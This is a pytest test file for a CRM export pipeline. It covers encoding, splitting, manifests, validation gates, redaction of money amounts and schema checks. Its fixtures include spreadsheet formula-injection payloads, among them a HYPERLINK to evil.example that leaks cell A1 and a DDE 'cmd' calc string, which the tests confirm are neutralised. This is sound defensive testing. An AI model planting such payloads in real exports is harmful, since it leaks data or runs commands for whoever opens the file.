"""The CRM export: bytes, formula injection, splitting, the manifest, re-runs, gates and the allowed columns."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from datetime import date, timedelta

import numpy as np
import pandas as pd
import pytest

from pipelines import crm_export, lake
from pipelines.config import Paths
from pipelines.errors import GateFailed, SegoneError
from pipelines.runs import write_run_metrics

DAY = date(2026, 11, 19)
CRAFTED = {
    "C0003": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "C0004": "+1 call us",
    "C0005": "-2+3",
    "C0006": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C0007": "\tTab first",
    "C0008": "\rCarriage return first",
    "C0009": 'Commas, "quotes" and\na line break',
}
DESCRIPTIONS = ["TESCO STORES 3021 LONDON", "PAYPAL *SECRETSHOP", "RENT TO J SMITH FLAT 4B"]
MERCHANTS = ["Tesco Stores", "SecretShop Ltd"]


def nba_frame(n_customers: int = 40) -> pd.DataFrame:
    rows = []
    for i in range(n_customers):
        customer = f"C{i:04d}"
        for rank, (action, cls) in enumerate([("shortfall_warning", "protective"), ("bill_reminder", "service"),
                                              ("isa", "commercial")], start=1):
            explanation = (f"{action}: Suggested because you have about £{1000 + i} that you could save today; "
                           f"you have savings of £{20000 + i} that could earn tax-free interest.")
            if rank == 1 and customer in CRAFTED:
                explanation = CRAFTED[customer]
            rows.append({
                "recommendation_id": hashlib.md5(f"{customer}|{action}".encode()).hexdigest(),
                "customer_id": customer, "rank": rank, "action_id": action, "action_class": cls,
                "channel": "email", "priority": 10.0 / rank, "propensity": 0.1, "value": 25.0,
                "logging_probability": 1.0 if cls == "protective" else 0.925, "is_exploration": rank == 3,
                "is_control": False,
                "reasons": f"your balance is £{i * 13}.45 after TESCO STORES 3021 LONDON",
                "explanation": explanation, "policy_version": "nba-v1",
                "valid_until": DAY + timedelta(days=7 * rank),
                "bucket": int(lake.bucket_of([customer])[0]),
            })
    frame = pd.DataFrame(rows).sample(frac=1.0, random_state=3)  # the export must sort, not rely on file order
    frame["rank"] = frame["rank"].astype("int32")
    return frame


def make_lake(paths: Paths, passed: bool = True, n_customers: int = 40) -> None:
    frame = nba_frame(n_customers)
    lake.write_frame(frame, lake.partition_path(paths, "gold", "next_best_actions", as_of=DAY.isoformat()), paths,
                     partition_by=["bucket"])
    tx = pd.DataFrame({"transaction_id": ["t1", "t2", "t3"], "customer_id": ["C0001", "C0002", "C0003"],
                       "description": DESCRIPTIONS, "merchant_name": MERCHANTS + [None],
                       "amount": [-12.5, -99.99, -800.0], "bucket": [0, 0, 0]})
    lake.write_frame(tx, lake.partition_path(paths, "silver", "transactions", load_date=DAY.isoformat()), paths,
                     partition_by=["bucket"])
    set_gates(paths, passed)


def set_gates(paths: Paths, passed: bool) -> None:
    write_run_metrics(paths, DAY.isoformat(), "validate", {
        "passed": passed, "suites": {},
        "gates": [{"name": "quarantine_share:transactions", "passed": passed,
                   "message": "transactions: 9 of 10 rows quarantined" if not passed else "ok"}]})


def export_bytes(folder) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


def read_rows(folder) -> list[dict[str, str]]:
    _, rows = crm_export.read_export(folder)
    return rows


def test_bytes_are_utf8_lf_header_iso_dates(paths: Paths) -> None:
    make_lake(paths)
    manifest = crm_export.export_crm(paths, DAY)
    folder = paths.exports / "crm" / DAY.isoformat()
    assert [f["name"] for f in manifest["files"]] == ["next_best_actions.csv"]
    data = (folder / "next_best_actions.csv").read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert b"\r" not in data
    data.decode("utf-8")  # valid UTF-8 (the £ of the crafted texts would fail otherwise)
    assert data.split(b"\n", 1)[0].decode() == ",".join(crm_export.EXPORT_COLUMNS)
    assert data.endswith(b"\n")
    rows = read_rows(folder)
    assert len(rows) == 120
    for row in rows:
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["as_of"]) and row["as_of"] == "2026-11-19"
        assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["valid_until"])
        assert row["is_exploration"] in {"true", "false"} and row["must_deliver"] == "true"
        assert row["treatment_group"] in {"treatment", "control"}
    assert [(r["customer_id"], int(r["rank"])) for r in rows] == sorted((r["customer_id"], int(r["rank"]))
                                                                       for r in rows)
    assert len({r["recommendation_id"] for r in rows}) == len(rows)


def test_formula_injection_is_neutralised(paths: Paths) -> None:
    make_lake(paths)
    crm_export.export_crm(paths, DAY)
    rows = {(r["customer_id"], r["rank"]): r for r in read_rows(paths.exports / "crm" / DAY.isoformat())}
    for customer, text in CRAFTED.items():
        got = rows[(customer, "1")]["explanation"]
        if text.startswith(crm_export.FORMULA_TRIGGERS):
            assert got.startswith("'"), got
            assert got == "'" + text.replace("\r", "\n")
        else:
            assert got == text  # commas, quotes and a line break survive the quoting as they were
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(crm_export.FORMULA_TRIGGERS), value


def test_apostrophe_cell_round_trips_through_csv_reader() -> None:
    text = '=HYPERLINK("http://x.example","y")'
    cell = crm_export.text_cell(text)
    assert cell == "'" + text
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerow(["id", cell])
    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == ["id", "'" + text]
    for trigger in ("+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert crm_export.text_cell(trigger).startswith("'")
    assert crm_export.text_cell("Plain text") == "Plain text"
    assert crm_export.text_cell("it's fine") == "it's fine"


def test_split_below_max_size_keeps_every_row_once(paths: Paths) -> None:
    make_lake(paths)
    manifest = crm_export.export_crm(paths, DAY, max_bytes=2048)
    folder = paths.exports / "crm" / DAY.isoformat()
    names = [f["name"] for f in manifest["files"]]
    assert len(names) > 3
    assert names == [f"next_best_actions-{i:04d}.csv" for i in range(1, len(names) + 1)]
    assert not (folder / "next_best_actions.csv").exists()
    header = ",".join(crm_export.EXPORT_COLUMNS).encode() + b"\n"
    ids = []
    for name in names:
        data = (folder / name).read_bytes()
        assert len(data) < 2048
        assert data.startswith(header)
        assert data.endswith(b"\n")
        part = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        assert part, name
        ids += [r["recommendation_id"] for r in part]
    source = nba_frame()
    assert sorted(ids) == sorted(source["recommendation_id"])
    assert len(ids) == len(set(ids))
    assert manifest["rows"] == len(source)


def test_manifest_matches_the_files(paths: Paths) -> None:
    make_lake(paths)
    manifest = crm_export.export_crm(paths, DAY, max_bytes=4096)
    folder = paths.exports / "crm" / DAY.isoformat()
    on_disk = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert on_disk["rows"] == 120 and manifest["rows"] == 120
    for key in ("schema_version", "run_id", "as_of", "files", "rows", "sha256", "columns", "created_by"):
        assert key in on_disk, key
    assert on_disk["as_of"] == "2026-11-19"
    assert on_disk["columns"] == crm_export.EXPORT_COLUMNS
    whole = hashlib.sha256()
    total = 0
    for f in on_disk["files"]:
        data = (folder / f["name"]).read_bytes()
        whole.update(data)
        assert hashlib.sha256(data).hexdigest() == f["sha256"]
        assert len(data) == f["bytes"]
        assert len(list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))) == f["rows"]
        total += f["rows"]
    assert total == on_disk["rows"]
    assert whole.hexdigest() == on_disk["sha256"]
    crm_export.read_export(folder)  # checks every file against the manifest
    assert sorted(p.name for p in folder.iterdir()) == sorted([*(f["name"] for f in on_disk["files"]),
                                                               "manifest.json"])


def test_rerun_is_byte_identical_and_airflow_run_id(paths: Paths) -> None:
    make_lake(paths)
    folder = paths.exports / "crm" / DAY.isoformat()
    first = crm_export.export_crm(paths, DAY, max_bytes=3000)
    before = export_bytes(folder)
    second = crm_export.export_crm(paths, DAY, max_bytes=3000)
    assert export_bytes(folder) == before
    assert first["run_id"] == second["run_id"] and first["run_id"].startswith("crm-2026-11-19-")
    third = crm_export.export_crm(paths, DAY, max_bytes=3000, run_id="scheduled__2026-11-19T00:00:00+00:00")
    assert third["run_id"] == "scheduled__2026-11-19T00:00:00+00:00"
    assert third["sha256"] == first["sha256"]
    assert not [p for p in folder.parent.iterdir() if p.name.startswith(".")]  # no staging left behind


def test_refuses_when_a_gate_failed_and_keeps_the_previous_export(paths: Paths) -> None:
    make_lake(paths)
    folder = paths.exports / "crm" / DAY.isoformat()
    crm_export.export_crm(paths, DAY)
    before = export_bytes(folder)
    set_gates(paths, passed=False)
    with pytest.raises(GateFailed, match="quarantine_share:transactions"):
        crm_export.export_crm(paths, DAY)
    assert export_bytes(folder) == before
    assert [p.name for p in folder.parent.iterdir()] == [DAY.isoformat()]

    set_gates(paths, passed=True)
    write_run_metrics(paths, DAY.isoformat(), "validate_gold_next_best_actions", {
        "passed": False, "suites": {"next_best_actions": {"success": False, "failures": []}}})
    with pytest.raises(GateFailed, match="gold_next_best_actions"):
        crm_export.export_crm(paths, DAY)
    assert export_bytes(folder) == before


def test_refuses_without_validation_and_writes_nothing(paths: Paths) -> None:
    make_lake(paths)
    (paths.runs / DAY.isoformat() / "validate.json").unlink()
    with pytest.raises(GateFailed, match="no landing validation"):
        crm_export.export_crm(paths, DAY)
    assert not (paths.exports / "crm" / DAY.isoformat()).exists()


def test_only_allowed_columns_and_no_transaction_data(paths: Paths) -> None:
    make_lake(paths)
    crm_export.export_crm(paths, DAY, max_bytes=5000)
    folder = paths.exports / "crm" / DAY.isoformat()
    rows = read_rows(folder)
    assert list(rows[0].keys()) == crm_export.EXPORT_COLUMNS
    assert set(crm_export.EXPORT_COLUMNS) == {
        "recommendation_id", "customer_id", "as_of", "rank", "action_id", "action_class", "channel", "priority",
        "logging_probability", "is_exploration", "treatment_group", "must_deliver", "explanation", "policy_version",
        "valid_until"}
    con = lake.connect()
    silver = con.execute(f"select description, merchant_name from "
                         f"{lake.scan_sql(paths, 'silver', 'transactions')}").fetchall()
    con.close()
    forbidden = {v.lower() for pair in silver for v in pair if v} | {"tesco", "secretshop"}
    text = b"".join(export_bytes(folder).values()).decode("utf-8").lower()
    for needle in forbidden:
        assert needle not in text, needle
    for row in rows:
        assert "£" not in row["explanation"]  # money figures are put into words before they leave
        assert not re.search(r"\d{4,}", row["explanation"]), row["explanation"]


def test_money_is_put_into_words() -> None:
    assert crm_export.redact_money("you could move about £1585 to savings today") == \
        "you could move some money to savings today"
    assert crm_export.redact_money("you have savings of £13111 that could earn interest") == \
        "you have savings that could earn interest"
    assert crm_export.redact_money("a regular income arrives and about £1,585.50 is safe to save") == \
        "a regular income arrives and some money is safe to save"
    assert crm_export.redact_money("within 30 days (45% chance)") == "within 30 days (45% chance)"


# --- keys are never altered (issue 12, item 5) ------------------------------------------------------------------

def test_keys_the_contract_allows_are_exported_verbatim(paths: Paths, monkeypatch) -> None:
    """A customer_id such as `-A1` is a valid id of the landing contract: the upsert key and the other keys must
    reach the CRM exactly as they are, never with a formula apostrophe."""
    allowed = crm_export.allowed_values()
    monkeypatch.setattr(crm_export, "allowed_values",
                        lambda: {**allowed, "action_id": [*allowed["action_id"], "-isa"]})  # a catalogue with -isa
    frame = nba_frame(3)
    frame.loc[frame["customer_id"] == "C0001", "customer_id"] = "-A1"
    frame.loc[frame["action_id"] == "isa", "action_id"] = "-isa"
    frame.loc[frame.index[0], "recommendation_id"] = "-0123abc"
    frame["bucket"] = [int(b) for b in lake.bucket_of(frame["customer_id"].tolist())]
    lake.write_frame(frame, lake.partition_path(paths, "gold", "next_best_actions", as_of=DAY.isoformat()), paths,
                     partition_by=["bucket"])
    set_gates(paths, True)
    crm_export.export_crm(paths, DAY)
    rows = read_rows(paths.exports / "crm" / DAY.isoformat())
    assert sorted({r["customer_id"] for r in rows}) == ["-A1", "C0000", "C0002"]
    assert "-isa" in {r["action_id"] for r in rows}
    assert "-0123abc" in {r["recommendation_id"] for r in rows}
    for row in rows:
        for column in crm_export.KEY_COLUMNS:
            assert not row[column].startswith("'"), row


def test_a_key_outside_the_id_alphabet_stops_the_export_instead_of_being_altered(paths: Paths) -> None:
    frame = nba_frame(2)
    frame.loc[frame.index[0], "customer_id"] = '=HYPERLINK("http://x")'
    lake.write_frame(frame, lake.partition_path(paths, "gold", "next_best_actions", as_of=DAY.isoformat()), paths,
                     partition_by=["bucket"])
    set_gates(paths, True)
    with pytest.raises(SegoneError, match="customer_id .* is not an id"):
        crm_export.export_crm(paths, DAY)
    assert not (paths.exports / "crm" / DAY.isoformat()).exists()


@pytest.mark.parametrize("text", ["\x00=HYPERLINK(\"http://evil.example\")", "\x1b+1 call", "\x7f@SUM(1)",
                                  "\x00\x01-2+3", "\r\n=cmd"])
def test_control_characters_are_stripped_before_the_formula_check(text: str) -> None:
    cell = crm_export.text_cell(text)
    assert cell.startswith("'"), repr(cell)
    assert not any(c in cell for c in "\x00\x01\x1b\x7f\r")


# --- the contract a CRM team reads (issue 15, items 1 to 3 and 10) -----------------------------------------------

def control_frame(n_customers: int = 12) -> pd.DataFrame:
    """nba_frame with the first three customers in the control group: protective actions only (as decide makes it)."""
    frame = nba_frame(n_customers)
    control = frame["customer_id"].isin(["C0000", "C0001", "C0002"])
    frame = frame[~control | (frame["action_class"] == "protective")].copy()
    frame["is_control"] = frame["customer_id"].isin(["C0000", "C0001", "C0002"])
    return frame


def write_gold(paths: Paths, frame: pd.DataFrame) -> None:
    lake.write_frame(frame, lake.partition_path(paths, "gold", "next_best_actions", as_of=DAY.isoformat()), paths,
                     partition_by=["bucket"])
    set_gates(paths, True)


def frictionless_report(folder, schema: dict | None = None):
    from frictionless import Resource, Schema

    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    table_schema = Schema.from_descriptor(schema or manifest["schema"])
    return [Resource(path=f["name"], basepath=str(folder), schema=table_schema).validate()
            for f in manifest["files"]]


def test_the_manifest_table_schema_validates_the_export_with_frictionless(paths: Paths) -> None:
    """The manifest's Table Schema, read by the reference implementation (frictionless), accepts every file:
    every column, its type, length, allowed values and the primary key; crafted formula cells included."""
    write_gold(paths, control_frame(40))
    crm_export.export_crm(paths, DAY, max_bytes=6000)
    folder = paths.exports / "crm" / DAY.isoformat()
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert len(manifest["files"]) > 1
    reports = frictionless_report(folder)
    for report in reports:
        assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
    assert sum(r.task.stats["rows"] for r in reports) == manifest["rows"]
    schema = manifest["schema"]
    assert [f["name"] for f in schema["fields"]] == crm_export.EXPORT_COLUMNS == manifest["columns"]
    assert schema["primaryKey"] == ["recommendation_id"]
    assert all(f["constraints"].get("required") for f in schema["fields"])
    types = {f["name"]: f["type"] for f in schema["fields"]}
    assert types["as_of"] == types["valid_until"] == "date" and types["rank"] == "integer"
    assert types["priority"] == types["logging_probability"] == "number"
    assert types["is_exploration"] == types["must_deliver"] == "boolean"


def test_the_schema_is_not_vacuous_frictionless_rejects_a_file_that_breaks_it(paths: Paths) -> None:
    """The same schema rejects a file with a hold-out arm, a false must_deliver, an unknown action, a too long
    explanation, a bad date and a duplicate key: each constraint is really there."""
    write_gold(paths, control_frame(5))
    crm_export.export_crm(paths, DAY)
    folder = paths.exports / "crm" / DAY.isoformat()
    data = (folder / "next_best_actions.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    broken = [dict(r) for r in rows]
    broken[0]["treatment_group"] = "holdout"
    broken[1]["must_deliver"] = "false"
    broken[2]["action_id"] = "crypto_offer"
    broken[3]["explanation"] = "x" * 1001
    broken[4]["valid_until"] = "04/12/2026"
    broken[5]["recommendation_id"] = broken[6]["recommendation_id"]
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=crm_export.EXPORT_COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(broken)
    (folder / "next_best_actions.csv").write_text(buffer.getvalue(), encoding="utf-8", newline="")
    report = frictionless_report(folder)[0]
    errors = {(e[0], e[1], e[2]) for e in report.flatten(["rowNumber", "fieldName", "type"])}
    assert (2, "treatment_group", "constraint-error") in errors
    assert (3, "must_deliver", "constraint-error") in errors
    assert (4, "action_id", "constraint-error") in errors
    assert (5, "explanation", "constraint-error") in errors
    assert (6, "valid_until", "type-error") in errors
    assert any(t in {"primary-key", "unique-error"} for _, _, t in errors), errors


def test_the_schema_comes_from_tables_yaml_and_the_catalogue() -> None:
    from pipelines.actions import CHANNELS, CLASSES, load_catalogue
    from pipelines.schemas import table_schema

    contract = table_schema("exports", "crm_next_best_actions")
    schema = crm_export.table_schema()
    fields = {f["name"]: f for f in schema["fields"]}
    assert list(fields) == contract.column_names == crm_export.EXPORT_COLUMNS
    assert {f["name"]: f["description"] for f in schema["fields"]} == {c.name: c.description for c in contract.columns}
    assert fields["action_id"]["constraints"]["enum"] == [a.id for a in load_catalogue()]
    assert fields["action_class"]["constraints"]["enum"] == list(CLASSES)
    assert fields["channel"]["constraints"]["enum"] == list(CHANNELS)
    assert fields["treatment_group"]["constraints"]["enum"] == ["treatment", "control"]
    assert fields["must_deliver"]["constraints"]["enum"] == [True]
    assert fields["explanation"]["constraints"]["maxLength"] == contract.checks["max_length"]["explanation"]
    for key in crm_export.KEY_COLUMNS:
        assert fields[key]["constraints"]["pattern"] == "[A-Za-z0-9_.:-]{1,64}"
        assert fields[key]["constraints"]["maxLength"] == 64


def test_control_rows_are_labelled_treatment_group_and_must_be_delivered(paths: Paths) -> None:
    """is_control (read by a CRM as "hold out") is not exported: the arm is `treatment_group`, every row says
    must_deliver, and the manifest says the arm is never a send filter. Control customers' rows are protective."""
    write_gold(paths, control_frame(12))
    returned = crm_export.export_crm(paths, DAY)
    folder = paths.exports / "crm" / DAY.isoformat()
    manifest, rows = crm_export.read_export(folder)
    assert "schema" not in returned and returned["manifest"] == str(folder / "manifest.json")
    header = (folder / "next_best_actions.csv").read_text(encoding="utf-8").split("\n", 1)[0]
    assert "is_control" not in header and "is_control" not in manifest["columns"]
    assert manifest["schema_version"] == "crm-nba/2"
    control = [r for r in rows if r["treatment_group"] == "control"]
    assert {r["customer_id"] for r in control} == {"C0000", "C0001", "C0002"}
    assert {r["action_class"] for r in control} == {"protective"}
    assert {r["treatment_group"] for r in rows if r["customer_id"] not in {"C0000", "C0001", "C0002"}} == \
        {"treatment"}
    assert {r["must_deliver"] for r in rows} == {"true"}
    fields = {f["name"]: f for f in manifest["schema"]["fields"]}
    assert "NEVER a send filter" in fields["treatment_group"]["description"]
    assert "must be delivered" in fields["treatment_group"]["description"]
    assert "NEVER a send filter" in manifest["delivery"]["treatment_group"]
    assert manifest["snapshot"]["mode"] == "full" and "superseded" in manifest["snapshot"]["earlier_exports"]


def test_a_row_that_would_break_the_schema_stops_the_export(paths: Paths) -> None:
    """The export checks each row against the schema it declares: a too long explanation or an action outside the
    catalogue is an error naming the recommendation and the rule, and nothing is written."""
    frame = nba_frame(4)
    frame.loc[frame.index[0], "explanation"] = "Why: " + "very long reason; " * 80
    write_gold(paths, frame)
    with pytest.raises(SegoneError, match="explanation is longer than the contract's 1000 characters"):
        crm_export.export_crm(paths, DAY)
    assert not (paths.exports / "crm" / DAY.isoformat()).exists()
    frame = nba_frame(4)
    frame.loc[frame.index[0], "action_id"] = "crypto_offer"
    write_gold(paths, frame)
    with pytest.raises(SegoneError, match="action_id is not one of the .* allowed values"):
        crm_export.export_crm(paths, DAY)
    assert not (paths.exports / "crm" / DAY.isoformat()).exists()


def test_numbers_are_plain_decimals_that_read_back_exactly() -> None:
    for value in (21.0, 0.033333, 1e-06, 0.000123, 1e16, 123456.789):
        cell = crm_export._cell("priority", value)
        assert re.fullmatch(r"\d+\.\d+", cell), cell
        assert float(cell) == value
    with pytest.raises(SegoneError, match="not a finite number"):
        crm_export._cell("priority", float("inf"))


def _worst_case_context(catalogue) -> pd.DataFrame:
    """One customer whose every placeholder renders as long as it can: money far beyond any balance, 100%, five
    digit counts, the longest month name, a text field at the landing contract's 64-character maximum."""
    from pipelines.actions import CONTEXT_FIELDS, _PLACEHOLDER

    worst = {"money": 1e12, "penny": 1e12 - 0.01, "pct": 1.0, "int": 99999, "date": pd.Timestamp("2026-09-30"),
             "text": "W" * 64}
    row: dict = {"customer_id": "C0000", **{name: np.nan for name in CONTEXT_FIELDS}}
    for action in catalogue:
        for text in [action.explanation, *(r["text"] for r in action.reasons)]:
            for name, fmt in _PLACEHOLDER.findall(text):
                row[name] = worst[fmt or "text"]
    return pd.DataFrame([row])


@pytest.mark.parametrize("every_reason_holds", [True, False])
def test_every_explanation_fits_the_contract_with_worst_case_values(monkeypatch, every_reason_holds: bool) -> None:
    """The explanation column is declared long text of at most max_length characters (config/tables.yaml), not a
    255-character text field: the decide stage composes title, explanation, every reason that holds, the protective
    note and the exploration note, which runs past 255 (341 on the b2k240 night). This renders every action of the
    catalogue through decide's own composition with worst-case values, with every conditional reason holding (or
    none, for the fallback), as an exploration pick, and checks the exported text fits."""
    from pipelines import decide
    from pipelines.actions import load_catalogue

    catalogue = load_catalogue()
    monkeypatch.setattr(decide, "evaluate_rule",
                        lambda sub, rule: np.full(len(sub), every_reason_holds, dtype=bool))
    n = len(catalogue)
    frame = decide._published(
        _worst_case_context(catalogue), catalogue, np.arange(n), np.zeros(n, dtype=int), np.arange(n),
        np.zeros(n, dtype=int), np.full(n, 0.5), np.full(n, 1.0), np.full(n, 0.02), np.ones(n, dtype=bool),
        np.arange(1, n + 1), np.array([False]), DAY, "nba-v1")
    limit = crm_export.CONTRACT.checks["max_length"]["explanation"]
    assert len(frame) == n
    lengths = {row.action_id: len(crm_export._cell("explanation", row.explanation)) for row in frame.itertuples()}
    assert max(lengths.values()) <= limit, lengths
    assert max(lengths.values()) > 255  # the reason the column is long text, not a 255-character field
    for row in frame.itertuples():
        assert "Suggested because" in row.explanation and "rotate to learn" in row.explanation  # really worst case


def test_export_folders_and_files_are_readable_by_another_account_whatever_the_umask(paths: Paths) -> None:
    import os
    import stat

    make_lake(paths)
    old = os.umask(0o077)  # a service whose umask would make the export 0700 / 0600
    try:
        crm_export.export_crm(paths, DAY)
    finally:
        os.umask(old)
    folder = paths.exports / "crm" / DAY.isoformat()
    for path in (paths.exports, folder.parent, folder):
        assert stat.S_IMODE(path.stat().st_mode) == 0o755, path
    for path in folder.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o644, path


def test_group_only_modes_from_the_config(paths: Paths, monkeypatch) -> None:
    import grp
    import os
    import stat

    from pipelines import config

    group = grp.getgrgid(os.getegid()).gr_name
    real = config.settings()
    monkeypatch.setattr(crm_export, "settings", lambda: {
        **real, "crm_export": {"dir_mode": "0750", "file_mode": "0640", "group": group}})
    make_lake(paths)
    crm_export.export_crm(paths, DAY)
    folder = paths.exports / "crm" / DAY.isoformat()
    assert stat.S_IMODE(folder.stat().st_mode) == 0o750
    for path in folder.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == 0o640 and path.stat().st_gid == os.getegid()
    monkeypatch.setattr(crm_export, "settings", lambda: {**real, "crm_export": {"dir_mode": "0700x"}})
    with pytest.raises(SegoneError, match="crm_export.dir_mode: '0700x' is not an octal mode"):
        crm_export.export_modes()
    monkeypatch.setattr(crm_export, "settings", lambda: {**real, "crm_export": {"group": "no-such-group-xyz"}})
    with pytest.raises(SegoneError, match="no group 'no-such-group-xyz'"):
        crm_export.export_modes()


@pytest.mark.parametrize("command", ["publish", "export-crm"])
def test_publish_and_export_of_a_night_with_no_data_fail_with_one_clear_line(paths: Paths, capsys, command) -> None:
    from pipelines.cli import main

    assert main([command, "--date", "2026-11-20"]) == 2
    captured = capsys.readouterr()
    lines = [line for line in captured.err.splitlines() if line.strip()]
    assert len(lines) == 1, captured.err
    assert lines[0].startswith(f"segone {command}: ") and "2026-11-20" in lines[0]
    assert "not run" in lines[0] or "not published" in lines[0], lines[0]
    assert "Traceback" not in captured.err + captured.out
    assert not (paths.exports / "crm" / "2026-11-20").exists()
    assert not (paths.home / "reports" / "2026-11-20").exists()


def test_the_crm_doc_lists_every_column_and_maps_each_to_salesforce() -> None:
    """docs/crm.md explains the columns and gives a Salesforce header: both follow the export's columns."""
    from pathlib import Path

    doc = (Path(__file__).resolve().parent.parent / "docs" / "crm.md").read_text(encoding="utf-8")
    section = doc.split("## Columns", 1)[1].split("\n## ", 1)[0]
    listed = re.findall(r"^\| `([a-z_]+)` \|", section, flags=re.M)
    assert listed == crm_export.EXPORT_COLUMNS
    header = re.search(r"^HEADER=(\S+)$", doc, flags=re.M).group(1).split(",")
    mapped = re.findall(r"^\| `([a-z_]+)` \| `([A-Za-z_]+__c)` \|", doc, flags=re.M)
    assert [column for column, _ in mapped] == crm_export.EXPORT_COLUMNS
    assert header == [field for _, field in mapped]
